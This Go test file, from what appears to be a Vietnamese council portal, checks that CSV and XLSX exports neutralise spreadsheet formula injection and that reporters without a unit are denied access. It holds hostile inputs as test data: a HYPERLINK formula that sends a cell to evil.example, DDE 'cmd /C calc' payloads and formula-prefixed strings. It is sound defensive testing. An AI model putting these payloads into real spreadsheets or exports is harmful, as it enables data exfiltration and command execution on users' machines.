package admin_test

import (
	"bytes"
	"encoding/csv"
	"fmt"
	"net/http"
	"strings"
	"testing"
	"time"

	"github.com/pocketbase/pocketbase/core"
	"github.com/xuri/excelize/v2"

	"github.com/daison/portal/admin/admintest"
	"github.com/daison/portal/admin/feedback"
	"github.com/daison/portal/internal/schema"
)

// TestHostile05FormulaInjectionInExports: what a citizen or a unit types
// reaches the council's spreadsheets as text. In CSV a cell that starts
// with = + - @ (or a tab or a line break) gets a leading quote, as OWASP
// advises; in XLSX it is a string cell, never a formula; counts stay
// numbers.
func TestHostile05FormulaInjectionInExports(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	topic := `=HYPERLINK("http://evil.example/?d="&A1,"Bấm để xem")`
	message := "+cmd|' /C calc'!A0 – đề xuất đủ dài"
	service := "@SUM(1+1)*cmd|' /C calc'!A0"
	rec, err := feedback.Submit(w.App, feedback.Input{Kind: "sang-kien", Topic: topic, Message: message}, "203.0.113.7")
	if err != nil {
		t.Fatal(err)
	}
	if _, err := feedback.Submit(w.App, feedback.Input{Kind: "hai-long", Rating: "2", Service: service}, "203.0.113.8"); err != nil {
		t.Fatal(err)
	}

	// CSV.
	code, body := admintest.Do(w.H, http.MethodGet, "/api/portal/exports/feedback?format=csv", w.Tokens[reviewer], "")
	if code != 200 {
		t.Fatalf("csv: %d %s", code, body)
	}
	rows := readCSV(t, body)
	var row []string
	for _, r := range rows {
		if len(r) > 6 && r[1] == rec.RefCode {
			row = r
		}
	}
	if row == nil {
		t.Fatalf("the proposal is not in the CSV: %q", rows)
	}
	if row[5] != "'"+topic || row[6] != "'"+message {
		t.Errorf("topic and message not neutralised: %q %q", row[5], row[6])
	}
	if !strings.Contains(body, "'"+service) {
		t.Errorf("service not neutralised: %s", body)
	}
	assertNoFormulaCells(t, rows)
	if rows[1][0] != "1" {
		t.Errorf("a row number changed: %q", rows[1][0])
	}

	// XLSX: the topic is the string as typed, and no cell is a formula.
	code, body = admintest.Do(w.H, http.MethodGet, "/api/portal/exports/feedback?format=xlsx", w.Tokens[reviewer], "")
	if code != 200 {
		t.Fatalf("xlsx: %d", code)
	}
	f, err := excelize.OpenReader(bytes.NewReader([]byte(body)))
	if err != nil {
		t.Fatal(err)
	}
	xrows, err := f.GetRows("Danh sách")
	if err != nil {
		t.Fatal(err)
	}
	found := false
	for ri, r := range xrows {
		for ci, v := range r {
			cell, _ := excelize.CoordinatesToCellName(ci+1, ri+1)
			if formula, _ := f.GetCellFormula("Danh sách", cell); formula != "" {
				t.Errorf("cell %s is a formula: %q", cell, formula)
			}
			if v == topic {
				found = true
				if typ, _ := f.GetCellType("Danh sách", cell); typ != excelize.CellTypeSharedString && typ != excelize.CellTypeInlineString {
					t.Errorf("cell %s holding the topic has type %v", cell, typ)
				}
			}
		}
	}
	if !found {
		t.Errorf("the topic is not in the workbook as typed: %q", xrows)
	}
	if typ, _ := f.GetCellType("Danh sách", "A4"); typ != excelize.CellTypeNumber && typ != excelize.CellTypeUnset {
		t.Errorf("row number A4 is no longer a number: %v", typ)
	}

	// The nominations export too: a unit's achievements.
	year := time.Now().Year() + 1
	w.API(t, reporterA, http.MethodPost, "/api/collections/nominations/records", fmt.Sprintf(
		`{"unit":%q,"year":%d,"nomineeName":"-1+2","nomineeKind":"ca-nhan","requestedForm":"giay-khen","kind":"dot-xuat","achievements":"=1+1 hồ sơ","state":"draft"}`, unitA, year), 200)
	code, body = admintest.Do(w.H, http.MethodGet, fmt.Sprintf("/api/portal/exports/nominations?year=%d&format=csv", year), w.Tokens[reporterA], "")
	if code != 200 || !strings.Contains(body, "'=1+1 hồ sơ") || !strings.Contains(body, "'-1+2") {
		t.Fatalf("nominations csv: %d %s", code, body)
	}
	assertNoFormulaCells(t, readCSV(t, body))
}

func readCSV(t *testing.T, body string) [][]string {
	t.Helper()
	rows, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(body, "\uFEFF"))).ReadAll()
	if err != nil {
		t.Fatalf("the CSV does not read: %v", err)
	}
	return rows
}

// assertNoFormulaCells fails on any cell a spreadsheet would read as a
// formula.
func assertNoFormulaCells(t *testing.T, rows [][]string) {
	t.Helper()
	for _, r := range rows {
		for _, v := range r {
			s := strings.TrimLeft(v, " ")
			if s != "" && strings.ContainsRune("=+-@\t\r", rune(s[0])) {
				t.Errorf("a cell starts a formula: %q", v)
			}
		}
	}
}

// TestHostile07NoUnitMeansNothing: a unit's reporter with no unit (never
// given one, or whose unit was deleted) exports nothing and files nothing,
// told why in Vietnamese; no API rule takes an empty unit for a match; and
// the migration brings older databases' rules up to this.
func TestHostile07NoUnitMeansNothing(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	year := time.Now().Year() + 1
	w.API(t, reporterA, http.MethodPost, "/api/collections/nominations/records", fmt.Sprintf(
		`{"unit":%q,"year":%d,"nomineeName":"Lê Thị Hoa","nomineeKind":"ca-nhan","requestedForm":"giay-khen","kind":"dot-xuat","achievements":"Số hóa hồ sơ","state":"draft"}`, unitA, year), 200)

	noUnit := admintest.StaffToken(t, w.App, "unitReporter", "")
	// A unit that is then deleted: PocketBase empties the account's unit.
	unitC := admintest.Create(t, w.App, schema.Units, map[string]any{"name": "Đơn vị sẽ giải thể", "kind": "khac", "status": "draft"})
	orphan := admintest.StaffToken(t, w.App, "unitReporter", unitC.Id)
	if err := w.App.Delete(unitC); err != nil {
		t.Fatal(err)
	}
	for name, token := range map[string]string{"no unit": noUnit, "deleted unit": orphan} {
		for _, format := range []string{"xlsx", "csv"} {
			code, body := admintest.Do(w.H, http.MethodGet, fmt.Sprintf("/api/portal/exports/nominations?year=%d&format=%s", year, format), token, "")
			if code != 403 || !strings.Contains(body, "chưa được gắn với đơn vị nào") || strings.Contains(body, "Lê Thị Hoa") {
				t.Errorf("%s, %s export: %d %s", name, format, code, body)
			}
		}
		for _, c := range []struct{ collection, body string }{
			{"initiatives", `{"title":"Sáng kiến không đơn vị","kind":"sang-kien","field":"chuyen-doi-so","status":"draft","unit":""}`},
			{"nominations", fmt.Sprintf(`{"unit":"","year":%d,"nomineeName":"X","nomineeKind":"ca-nhan","requestedForm":"giay-khen","kind":"dot-xuat","achievements":"x","state":"draft"}`, year)},
			{"unitReports", fmt.Sprintf(`{"unit":"","year":%d,"state":"draft","summary":"x"}`, year)},
		} {
			if code, body := admintest.Do(w.H, http.MethodPost, "/api/collections/"+c.collection+"/records", token, c.body); code != 403 {
				t.Errorf("%s creates %s: %d %s", name, c.collection, code, body)
			}
		}
		for _, c := range []string{"nominations", "unitReports"} {
			if code, body := admintest.Do(w.H, http.MethodGet, "/api/collections/"+c+"/records", token, ""); code != 200 || !strings.Contains(body, `"totalItems":0`) {
				t.Errorf("%s lists %s: %d %s", name, c, code, body)
			}
		}
	}

	// Every rule that names the reporter role requires the unit.
	all, err := w.App.FindAllCollections()
	if err != nil {
		t.Fatal(err)
	}
	for _, c := range all {
		for _, rule := range []*string{c.ListRule, c.ViewRule, c.CreateRule, c.UpdateRule, c.DeleteRule} {
			if rule != nil && strings.Count(*rule, `"unitReporter"`) != strings.Count(*rule, `"unitReporter" && @request.auth.unit != ""`) {
				t.Errorf("%s: a rule names the reporter without their unit: %s", c.Name, *rule)
			}
		}
	}

	// The migration: an older database's rule gains the unit, and loses it
	// again going down.
	var mig *core.Migration
	for _, m := range core.AppMigrations.Items() {
		if m.File == "1780000900_reporter_unit.go" {
			mig = m
		}
	}
	if mig == nil {
		t.Fatal("migration 1780000900_reporter_unit.go is not registered")
	}
	old := `(@request.auth.collectionName = "staff" && @request.auth.role = "unitReporter")`
	noms, err := w.App.FindCollectionByNameOrId(schema.Nominations)
	if err != nil {
		t.Fatal(err)
	}
	now := *noms.ListRule
	legacy := strings.ReplaceAll(now, `"unitReporter" && @request.auth.unit != ""`, `"unitReporter"`)
	noms.ListRule = &legacy
	if err := w.App.Save(noms); err != nil {
		t.Fatal(err)
	}
	if err := mig.Up(w.App); err != nil {
		t.Fatal(err)
	}
	noms, _ = w.App.FindCollectionByNameOrId(schema.Nominations)
	if *noms.ListRule != now || strings.Contains(*noms.ListRule, old) {
		t.Errorf("up: %s", *noms.ListRule)
	}
	if err := mig.Down(w.App); err != nil {
		t.Fatal(err)
	}
	noms, _ = w.App.FindCollectionByNameOrId(schema.Nominations)
	if *noms.ListRule != legacy {
		t.Errorf("down: %s", *noms.ListRule)
	}
}
